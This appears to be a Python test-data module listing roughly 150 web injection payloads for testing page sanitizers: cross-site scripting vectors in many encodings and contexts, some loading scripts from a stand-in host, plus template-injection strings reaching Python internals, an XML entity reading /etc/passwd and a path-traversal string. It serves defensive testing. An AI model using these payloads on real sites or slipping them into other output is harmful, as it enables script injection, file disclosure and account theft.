"""Scripts as texts, in all the forms that have got past an escape somewhere: data for tests of pages."""

LINES = r'''
<script>alert(1)</script>
<ScRiPt src=//x.example/a.js></sCrIpT>
<script\u000a>alert(1)</script\u000a>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</text></svg><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</details></summary><script>alert(1)</script>
--><script>alert(1)</script>
--!><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--<script>alert(1)</script>-->
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=`x` onerror=alert(1)>
<img/src="x"/onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<math><mi//xlink:href="javascript:alert(1)">x
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<form action="javascript:alert(1)"><input type=submit>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<base href="//x.example/">
<link rel=stylesheet href="//x.example/a.css">
<link rel=import href="//x.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>@import "//x.example/a.css";</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
" onmouseover="alert(1)
' onmouseover='alert(1)
" style="background:url(//x.example/)" x="
` onmouseover=`alert(1)
x" autofocus tabindex=1 onfocus="alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
${alert(1)}#{alert(1)}<%= alert(1) %>
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
javascript:alert(1)//
#000000 #1f4e79 url(#x) id="x" xlink:href="#x" font-family: x;
$\frac{$
../../etc/passwd\u0000<script>.html
<script>throw alert(1)</script
<script/x>alert(1)</script/x>
<script ~~~>alert(1)</script ~~~>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>/*</script><script>*/alert(1)</script>
<script type=module>alert(1)</script>
<script type=text/vbscript>msgbox 1</script>
<script src=data:,alert(1)></script>
<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><img src=x onerror=alert(1)></template>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<table><td background="javascript:alert(1)">
<table><tr><form><input onfocus=alert(1) autofocus>
<frameset onload=alert(1)>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)>
<video poster=javascript:alert(1)>
<video src=x onloadstart=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<img srcset=x onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<image src=x onerror=alert(1)>
<object type="text/x-scriptlet" data="//x.example/">
<applet code="javascript:alert(1)">
<portal src="javascript:alert(1)">
<dialog open onclose=alert(1)><form method=dialog><button autofocus>
<div onpointerrawupdate=alert(1)>x
<div onanimationstart=alert(1) style="animation:x 1s">
<div ontransitionend=alert(1) style="transition:1s">
<div contenteditable autofocus onfocus=alert(1)>
<div popover onbeforetoggle=alert(1)>x</div>
<style>*{background:url("javascript:alert(1)")}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><image href=x onerror=alert(1)>
<svg><script href=data:,alert(1) />
<svg><script>&#97;lert(1)</script>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<a href="javas&Tab;cript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href=javascript:alert(1)//>x</a>
<a target=_blank href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a onmouseover="alert(1)" style="position:fixed;inset:0">x</a>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
\u2028<script>alert(1)</script>\u2029
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
<x onclick=alert(1)>x</x>
\'-alert(1)//
</script >"-alert(1)-"
'''
PAYLOADS = [line.replace(r"\u0000", "\0").replace(r"\u000a", "\n") for line in LINES.strip().split("\n")]
